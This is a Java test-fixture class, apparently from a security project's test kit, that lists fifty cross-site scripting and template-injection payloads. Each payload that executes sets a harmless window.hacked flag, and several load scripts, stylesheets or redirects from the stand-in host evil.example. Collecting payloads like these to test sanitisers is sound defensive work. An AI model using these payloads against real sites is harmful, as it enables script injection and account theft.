package io.secgroupd.daemon.testkit;

import java.util.List;
import java.util.stream.Stream;

/** Texts that run, or change a page, where they are taken for more than texts. Each that runs sets {@code window.hacked}. */
public final class HostileTexts {

    private static final String RUNS = "window.hacked=1";

    /** Fifty of them. */
    public static final List<String> ALL = Stream.of(
                    "<script>" + RUNS + "</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "</script><script>" + RUNS + "</script>",
                    "</title><script>" + RUNS + "</script>",
                    "</style><script>" + RUNS + "</script>",
                    "</textarea><script>" + RUNS + "</script>",
                    "--><script>" + RUNS + "</script>",
                    "]]><script>" + RUNS + "</script>",
                    "<img src=x onerror=" + RUNS + ">",
                    "\"><img src=x onerror=" + RUNS + ">",
                    "'><img src=x onerror=" + RUNS + ">",
                    "><img src=x onerror=" + RUNS + ">",
                    "<svg onload=" + RUNS + ">",
                    "</svg><svg onload=" + RUNS + ">",
                    "<svg><script>" + RUNS + "</script></svg>",
                    "<svg><animate onbegin=" + RUNS + " attributeName=x dur=1s>",
                    "<svg><foreignObject><img src=x onerror=" + RUNS + "></foreignObject></svg>",
                    "<math><mtext><img src=x onerror=" + RUNS + "></mtext></math>",
                    "<body onload=" + RUNS + ">",
                    "<iframe src=javascript:parent." + RUNS + "></iframe>",
                    "<iframe srcdoc=\"<script>parent." + RUNS + "</script>\"></iframe>",
                    "<object data=javascript:" + RUNS + "></object>",
                    "<embed src=javascript:" + RUNS + ">",
                    "<a href=javascript:" + RUNS + ">click</a>",
                    "javascript:" + RUNS,
                    "<form action=javascript:" + RUNS + "><button autofocus>",
                    "<input autofocus onfocus=" + RUNS + ">",
                    "\" autofocus onfocus=" + RUNS + " x=\"",
                    "' autofocus onfocus=" + RUNS + " x='",
                    "\" onmouseover=" + RUNS + " x=\"",
                    "' onclick=" + RUNS + " x='",
                    "<details open ontoggle=" + RUNS + ">",
                    "<video><source onerror=" + RUNS + "></video>",
                    "<audio src=x onerror=" + RUNS + ">",
                    "<marquee onstart=" + RUNS + ">",
                    "<select onfocus=" + RUNS + " autofocus>",
                    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<base href=//evil.example/>",
                    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
                    "<template><img src=x onerror=" + RUNS + "></template>",
                    "<noscript><img src=x onerror=" + RUNS + "></noscript>",
                    "${" + RUNS + "}",
                    "{{constructor.constructor('" + RUNS + "')()}}",
                    "`;" + RUNS + ";`",
                    "';" + RUNS + "//",
                    "\\\";" + RUNS + "//",
                    "&lt;img src=x onerror=" + RUNS + "&gt;",
                    "%3Cscript%3E" + RUNS + "%3C/script%3E",
                    "<!--<img src=x onerror=" + RUNS + ">-->")
            .toList();

    private HostileTexts() {}
}
